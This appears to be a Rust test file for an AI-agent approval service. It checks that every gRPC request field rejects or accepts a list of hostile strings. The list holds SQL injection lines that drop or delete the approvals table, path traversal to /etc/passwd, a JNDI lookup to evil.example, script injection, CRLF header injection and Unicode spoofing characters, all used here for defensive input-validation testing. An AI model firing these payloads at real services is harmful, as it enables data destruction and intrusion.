//! The hostile texts, and every field of every request that takes a text.

use crate::grpc::harness::*;
use crate::grpc::moves::*;
use countersign::proto::*;
use std::future::Future;
use std::pin::Pin;
use tonic::Status;

/// A hostile text, and whether it is an identifier all the same.
pub fn hostile() -> Vec<(String, bool)> {
    let identifiers = [
        "a",
        &"a".repeat(256),
        &"\u{e9}".repeat(128),
        &"\u{1F600}".repeat(64),
        "'; DROP TABLE approvals; --",
        "\" OR \"\"=\"",
        "a\\'); DELETE FROM approvals WHERE ('1'='1",
        "%_%",
        "{\"a\":1}",
        "[null]",
        "null",
        "undefined",
        "NaN",
        "true",
        "0",
        "-1",
        "constructor",
        "__proto__",
        "toString",
        "../../etc/passwd",
        "..",
        "/",
        "C:\\windows\\system32",
        "file:///etc/passwd",
        "https://evil.example/?q=<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "%00",
        "%0d%0aSet-Cookie: a=b",
        "\\u0000",
        "\\u{202E}",
        "\u{301}",
        "e\u{301}",
        "\u{e9}",
        "a b",
        "a\u{a0}b",
        "a\u{3000}b",
        "\u{430}lice",
        "\u{5d0}\u{5d1}",
        "owner",
        "group:finance",
        "person:olga",
        "*",
        "a*",
        "-",
        "--help",
        "=1+1",
        "#",
        "!",
        "~0~1",
        "'",
        "\"",
        "\\",
        "|",
        ",",
        ":",
        ";",
    ];
    let none = [
        &"a".repeat(257),
        &format!("{}a", "\u{e9}".repeat(128)),
        &"a".repeat(1 << 20),
        "\0",
        "a\0b",
        "a\0",
        "\n",
        "a\nb",
        "a\r\nb",
        "a\tb",
        "\u{1b}[31mred",
        "\u{7f}",
        "\u{85}",
        "\u{9b}31m",
        " ",
        " a",
        "a ",
        "\u{a0}a",
        "a\u{3000}",
        "a\u{2003}",
        "\u{202e}evil",
        "a\u{202a}b\u{202c}",
        "a\u{2066}b\u{2069}",
        "a\u{200e}b",
        "a\u{200b}b",
        "a\u{200c}b",
        "a\u{200d}b",
        "a\u{2060}b",
        "\u{feff}a",
        "a\u{ad}b",
        "a\u{34f}b",
        "a\u{180e}b",
        "a\u{3164}b",
        "a\u{fe0f}b",
        "a\u{e0041}b",
        "a\u{e000}b",
        "a\u{f8ff}b",
        "a\u{100000}b",
        "a\u{378}b",
        "a\u{fdd0}b",
        "a\u{ffff}b",
        "a\u{2028}b",
        "a\u{2029}b",
    ];
    let with = |texts: &[&str], identifier: bool| texts.iter().map(|text| ((*text).to_owned(), identifier)).collect();
    let mut all: Vec<(String, bool)> = with(&identifiers, true);
    let mut more: Vec<(String, bool)> = with(&none, false);
    all.append(&mut more);
    all
}

/// What a field takes.
#[derive(Clone, Copy, PartialEq)]
pub enum Takes {
    /// An identifier.
    Identifier,
    /// An identifier, or nothing.
    Optional,
    /// At most 500 characters.
    Note,
    /// At least one character, and at most 500.
    Words,
    /// At most so many bytes.
    Bytes(usize),
    /// A UUID.
    Id,
    /// A UUID, or nothing.
    OptionalId,
    /// One form only, or nothing.
    OptionalForm,
    /// JSON.
    Arguments,
    /// Anything: what is none of ours is refused by a reason of its own.
    Token,
}

impl Takes {
    pub fn takes(self, text: &str, identifier: bool) -> bool {
        match self {
            Self::Identifier => identifier,
            Self::Optional => identifier || text.is_empty(),
            Self::Note => text.chars().count() <= 500,
            Self::Words => (1..=500).contains(&text.chars().count()),
            Self::Bytes(most) => text.len() <= most,
            Self::Id => false,
            Self::OptionalId | Self::OptionalForm => text.is_empty(),
            Self::Arguments => text.is_empty() || text == "{\"a\":1}",
            Self::Token => true,
        }
    }
}

pub type Answer<'a> = Pin<Box<dyn Future<Output = Result<(), Status>> + std::marker::Send + 'a>>;

pub type Send = for<'a> fn(&'a Sidecar, String) -> Answer<'a>;

/// One field of one request: its name in a refusal, what it takes, and the request with a text in it.
pub struct Field {
    pub name: &'static str,
    pub takes: Takes,
    pub send: Send,
}

pub const SOME_ID: &str = "0190b6c0-0000-7000-8000-00000000000a";

/// A field of a request at the door `$door`.
macro_rules! field {
    ($fields:ident, $door:ident . $rpc:ident, $name:literal, $takes:expr, $text:ident => $request:expr) => {
        $fields.push(Field {
            name: $name,
            takes: $takes,
            send: |sidecar, $text| {
                Box::pin(async move {
                    let request = $request;
                    sidecar.$door().$rpc(request).await.map(|_| ())
                })
            },
        })
    };
}

/// Every text of an invocation, in a request made of it.
macro_rules! invocation_fields {
    ($fields:ident, $rpc:ident, $invocation:ident => $request:expr) => {{
        macro_rules! inside {
            ($name:literal, $takes:expr, $text:ident => $changed:expr) => {
                field!($fields, agent.$rpc, $name, $takes, $text => {
                    let $invocation = Some($changed);
                    $request
                })
            };
        }
        inside!("invocation.principal", Takes::Identifier, text => Invocation { principal: text, ..email() });
        inside!("invocation.agent", Takes::Identifier, text => Invocation { agent: text, ..email() });
        inside!("invocation.conversation", Takes::Optional, text => Invocation { conversation: text, ..email() });
        inside!("invocation.connector", Takes::Identifier, text => Invocation { connector: text, ..email() });
        inside!("invocation.account", Takes::Optional, text => Invocation { account: text, ..email() });
        inside!("invocation.connection", Takes::Optional, text => Invocation { connection: text, ..email() });
        inside!("invocation.action", Takes::Identifier, text => Invocation { action: text, ..email() });
        inside!("invocation.arguments_json", Takes::Arguments, text => Invocation { arguments_json: text, ..email() });
        inside!("invocation.tool_definition_digest", Takes::OptionalForm, text => Invocation { tool_definition_digest: text, ..email() });
        inside!("invocation.objective.transcript", Takes::Identifier, text => Invocation {
            objective: Some(Objective { transcript: text, id: "input-1".to_owned(), revision: 1 }),
            ..email()
        });
        inside!("invocation.objective.id", Takes::Identifier, text => Invocation {
            objective: Some(Objective { transcript: "t1".to_owned(), id: text, revision: 1 }),
            ..email()
        });
        inside!("invocation.labels", Takes::Optional, text => Invocation { labels: [("name".to_owned(), text)].into(), ..email() });
    }};
}

pub fn fields() -> Vec<Field> {
    let mut fields = Vec::new();
    invocation_fields!(fields, evaluate, invocation => EvaluateRequest { invocation, explain: true });
    invocation_fields!(fields, request_approval, invocation => RequestApprovalRequest { invocation, ..Default::default() });
    invocation_fields!(fields, consume, invocation => ConsumeRequest { invocation, attempt_id: new_attempt(), ..Default::default() });
    field!(fields, agent.request_approval, "request_id", Takes::Optional, text => RequestApprovalRequest {
        request_id: text, invocation: Some(in_conversation(&new_attempt())), ..Default::default()
    });
    field!(fields, agent.request_approval, "retry_of", Takes::OptionalId, text => RequestApprovalRequest {
        retry_of: text, invocation: Some(email()), ..Default::default()
    });
    field!(fields, agent.request_approval, "wait_id", Takes::OptionalId, text => RequestApprovalRequest {
        wait_id: text, invocation: Some(email()), ..Default::default()
    });
    field!(fields, agent.request_approval, "agent_note", Takes::Note, text => RequestApprovalRequest {
        agent_note: text, invocation: Some(email()), ..Default::default()
    });
    field!(fields, agent.consume, "consume_token", Takes::Token, text => ConsumeRequest {
        consume_token: text, attempt_id: new_attempt(), invocation: Some(email()), ..Default::default()
    });
    field!(fields, agent.consume, "attempt_id", Takes::Id, text => ConsumeRequest {
        attempt_id: text, invocation: Some(email()), ..Default::default()
    });
    field!(fields, agent.consume, "retry_of", Takes::OptionalId, text => ConsumeRequest {
        retry_of: text, attempt_id: new_attempt(), invocation: Some(email()), ..Default::default()
    });
    field!(fields, agent.get_approval, "principal", Takes::Identifier, text => AgentServiceGetApprovalRequest {
        principal: text, agent: "assistant".to_owned(), approval_id: SOME_ID.to_owned()
    });
    field!(fields, agent.get_approval, "agent", Takes::Identifier, text => AgentServiceGetApprovalRequest {
        principal: "olga".to_owned(), agent: text, approval_id: SOME_ID.to_owned()
    });
    field!(fields, agent.get_approval, "approval_id", Takes::Id, text => AgentServiceGetApprovalRequest {
        principal: "olga".to_owned(), agent: "assistant".to_owned(), approval_id: text
    });
    field!(fields, agent.watch_approval, "principal", Takes::Identifier, text => WatchApprovalRequest {
        principal: text, agent: "assistant".to_owned(), approval_id: SOME_ID.to_owned()
    });
    field!(fields, agent.watch_approval, "agent", Takes::Identifier, text => WatchApprovalRequest {
        principal: "olga".to_owned(), agent: text, approval_id: SOME_ID.to_owned()
    });
    field!(fields, agent.watch_approval, "approval_id", Takes::Id, text => WatchApprovalRequest {
        principal: "olga".to_owned(), agent: "assistant".to_owned(), approval_id: text
    });
    field!(fields, agent.cancel_approval, "principal", Takes::Identifier, text => CancelApprovalRequest {
        principal: text, agent: "assistant".to_owned(), approval_id: SOME_ID.to_owned(), reason: String::new()
    });
    field!(fields, agent.cancel_approval, "agent", Takes::Identifier, text => CancelApprovalRequest {
        principal: "olga".to_owned(), agent: text, approval_id: SOME_ID.to_owned(), reason: String::new()
    });
    field!(fields, agent.cancel_approval, "approval_id", Takes::Id, text => CancelApprovalRequest {
        principal: "olga".to_owned(), agent: "assistant".to_owned(), approval_id: text, reason: String::new()
    });
    field!(fields, agent.cancel_approval, "reason", Takes::Note, text => CancelApprovalRequest {
        principal: "olga".to_owned(), agent: "assistant".to_owned(), approval_id: SOME_ID.to_owned(), reason: text
    });
    field!(fields, agent.report_outcome, "principal", Takes::Identifier, text => ReportOutcomeRequest {
        principal: text, ..report()
    });
    field!(fields, agent.report_outcome, "agent", Takes::Identifier, text => ReportOutcomeRequest {
        agent: text, ..report()
    });
    field!(fields, agent.report_outcome, "execution_id", Takes::Id, text => ReportOutcomeRequest {
        execution_id: text, ..report()
    });
    field!(fields, agent.report_outcome, "remote_reference", Takes::Bytes(512), text => ReportOutcomeRequest {
        remote_reference: text, ..report()
    });
    field!(fields, agent.report_outcome, "error_code", Takes::Bytes(128), text => ReportOutcomeRequest {
        error_code: text, ..report()
    });
    field!(fields, agent.report_outcome, "detail", Takes::Bytes(2_000), text => ReportOutcomeRequest {
        detail: text, ..report()
    });
    wait_fields(&mut fields);
    field!(fields, approver.list_approvals, "principal", Takes::Identifier, text => ListApprovalsRequest {
        principal: text, ..Default::default()
    });
    field!(fields, approver.list_approvals, "page_token", Takes::Token, text => ListApprovalsRequest {
        principal: "olga".to_owned(), page_token: text, ..Default::default()
    });
    field!(fields, approver.watch_approvals, "principal", Takes::Identifier, text => WatchApprovalsRequest {
        principal: text, ..Default::default()
    });
    field!(fields, approver.get_approval, "principal", Takes::Identifier, text => ApproverServiceGetApprovalRequest {
        principal: text, approval_id: SOME_ID.to_owned()
    });
    field!(fields, approver.get_approval, "approval_id", Takes::Id, text => ApproverServiceGetApprovalRequest {
        principal: "olga".to_owned(), approval_id: text
    });
    field!(fields, approver.decide, "principal", Takes::Identifier, text => DecideRequest {
        principal: text, ..decision()
    });
    field!(fields, approver.decide, "approval_id", Takes::Id, text => DecideRequest { approval_id: text, ..decision() });
    field!(fields, approver.decide, "reason", Takes::Note, text => DecideRequest { reason: text, ..decision() });
    field!(fields, approver.decide, "shown_fingerprint", Takes::OptionalForm, text => DecideRequest {
        shown_fingerprint: text, ..decision()
    });
    field!(fields, approver.revoke_approval, "principal", Takes::Identifier, text => RevokeApprovalRequest {
        principal: text, approval_id: SOME_ID.to_owned(), reason: String::new()
    });
    field!(fields, approver.revoke_approval, "approval_id", Takes::Id, text => RevokeApprovalRequest {
        principal: "olga".to_owned(), approval_id: text, reason: String::new()
    });
    field!(fields, approver.revoke_approval, "reason", Takes::Note, text => RevokeApprovalRequest {
        principal: "olga".to_owned(), approval_id: SOME_ID.to_owned(), reason: text
    });
    field!(fields, operator.list_audit_records, "approval_id", Takes::OptionalId, text => ListAuditRecordsRequest {
        approval_id: text, ..Default::default()
    });
    field!(fields, operator.list_audit_records, "execution_id", Takes::OptionalId, text => ListAuditRecordsRequest {
        execution_id: text, ..Default::default()
    });
    field!(fields, operator.list_audit_records, "wait_id", Takes::OptionalId, text => ListAuditRecordsRequest {
        wait_id: text, ..Default::default()
    });
    field!(fields, operator.list_audit_records, "principal", Takes::Optional, text => ListAuditRecordsRequest {
        principal: text, ..Default::default()
    });
    field!(fields, operator.list_audit_records, "page_token", Takes::Token, text => ListAuditRecordsRequest {
        page_token: text, ..Default::default()
    });
    field!(fields, operator.prove_audit_record, "record_id", Takes::Id, text => ProveAuditRecordRequest {
        record_id: text
    });
    field!(fields, operator.list_executions, "principal", Takes::Optional, text => ListExecutionsRequest {
        principal: text, ..Default::default()
    });
    field!(fields, operator.list_executions, "agent", Takes::Optional, text => ListExecutionsRequest {
        agent: text, ..Default::default()
    });
    field!(fields, operator.list_executions, "connector", Takes::Optional, text => ListExecutionsRequest {
        connector: text, ..Default::default()
    });
    field!(fields, operator.list_executions, "approval_id", Takes::OptionalId, text => ListExecutionsRequest {
        approval_id: text, ..Default::default()
    });
    field!(fields, operator.list_executions, "page_token", Takes::Token, text => ListExecutionsRequest {
        page_token: text, ..Default::default()
    });
    fields
}

/// The requests about waits. Each text that is taken is of a wait of its own.
fn wait_fields(fields: &mut Vec<Field>) {
    fn open() -> OpenWaitRequest {
        OpenWaitRequest {
            principal: new_attempt(),
            agent: "assistant".to_owned(),
            objective: objective(new_attempt(), "input-1".to_owned()),
            summary: "until somebody answers".to_owned(),
            ..Default::default()
        }
    }
    fn objective(transcript: String, id: String) -> Option<Objective> {
        Some(Objective { transcript, id, revision: 1 })
    }
    fn resume() -> ResumeWaitRequest {
        ResumeWaitRequest {
            wait_id: SOME_ID.to_owned(),
            principal: "olga".to_owned(),
            agent: "assistant".to_owned(),
            transcript: "t1".to_owned(),
            version: 1,
            attempt_id: new_attempt(),
        }
    }
    fn get() -> GetWaitRequest {
        GetWaitRequest { principal: "olga".to_owned(), agent: "assistant".to_owned(), wait_id: SOME_ID.to_owned() }
    }
    fn close() -> CloseWaitRequest {
        let GetWaitRequest { principal, agent, wait_id } = get();
        CloseWaitRequest { principal, agent, wait_id, reason: String::new() }
    }
    field!(fields, agent.open_wait, "principal", Takes::Identifier, text => OpenWaitRequest { principal: text, ..open() });
    field!(fields, agent.open_wait, "agent", Takes::Identifier, text => OpenWaitRequest { agent: text, ..open() });
    field!(fields, agent.open_wait, "conversation", Takes::Optional, text => OpenWaitRequest {
        conversation: text, ..open()
    });
    field!(fields, agent.open_wait, "objective.transcript", Takes::Identifier, text => OpenWaitRequest {
        objective: objective(text, "input-1".to_owned()), ..open()
    });
    field!(fields, agent.open_wait, "objective.id", Takes::Identifier, text => OpenWaitRequest {
        objective: objective("t1".to_owned(), text), ..open()
    });
    field!(fields, agent.open_wait, "summary", Takes::Words, text => OpenWaitRequest { summary: text, ..open() });
    field!(fields, agent.get_wait, "principal", Takes::Identifier, text => GetWaitRequest { principal: text, ..get() });
    field!(fields, agent.get_wait, "agent", Takes::Identifier, text => GetWaitRequest { agent: text, ..get() });
    field!(fields, agent.get_wait, "wait_id", Takes::Id, text => GetWaitRequest { wait_id: text, ..get() });
    field!(fields, agent.resume_wait, "wait_id", Takes::Id, text => ResumeWaitRequest { wait_id: text, ..resume() });
    field!(fields, agent.resume_wait, "principal", Takes::Identifier, text => ResumeWaitRequest {
        principal: text, ..resume()
    });
    field!(fields, agent.resume_wait, "agent", Takes::Identifier, text => ResumeWaitRequest { agent: text, ..resume() });
    field!(fields, agent.resume_wait, "transcript", Takes::Identifier, text => ResumeWaitRequest {
        transcript: text, ..resume()
    });
    field!(fields, agent.resume_wait, "attempt_id", Takes::Id, text => ResumeWaitRequest {
        attempt_id: text, ..resume()
    });
    field!(fields, agent.close_wait, "principal", Takes::Identifier, text => CloseWaitRequest {
        principal: text, ..close()
    });
    field!(fields, agent.close_wait, "agent", Takes::Identifier, text => CloseWaitRequest { agent: text, ..close() });
    field!(fields, agent.close_wait, "wait_id", Takes::Id, text => CloseWaitRequest { wait_id: text, ..close() });
    field!(fields, agent.close_wait, "reason", Takes::Note, text => CloseWaitRequest { reason: text, ..close() });
}

pub fn report() -> ReportOutcomeRequest {
    ReportOutcomeRequest {
        principal: "olga".to_owned(),
        agent: "assistant".to_owned(),
        execution_id: SOME_ID.to_owned(),
        outcome: Outcome::Unknown.into(),
        ..Default::default()
    }
}

pub fn decision() -> DecideRequest {
    DecideRequest {
        approval_id: SOME_ID.to_owned(),
        principal: "olga".to_owned(),
        verdict: Verdict::Approve.into(),
        ..Default::default()
    }
}
